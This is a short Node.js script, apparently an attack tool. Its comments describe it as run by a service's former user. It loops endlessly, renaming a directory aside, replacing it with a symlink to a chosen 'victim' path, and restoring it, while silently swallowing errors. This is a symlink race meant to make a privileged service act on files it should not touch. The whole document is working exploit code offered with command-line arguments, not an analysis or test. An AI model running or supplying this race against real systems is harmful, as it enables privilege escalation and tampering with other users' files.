// A service's former user: swaps a directory of its own for a link to another one, over and over. Arguments: the directory,
// what the link leads to.
import { renameSync, symlinkSync, unlinkSync } from "node:fs";

const [, , path, victim] = process.argv;
const quietly = (act) => {
  try {
    act();
  } catch {
    // Somebody was faster, or it is no longer ours.
  }
};
for (;;) {
  quietly(() => renameSync(path, `${path}.real`));
  quietly(() => symlinkSync(victim, path));
  quietly(() => unlinkSync(path));
  quietly(() => renameSync(`${path}.real`, path));
}
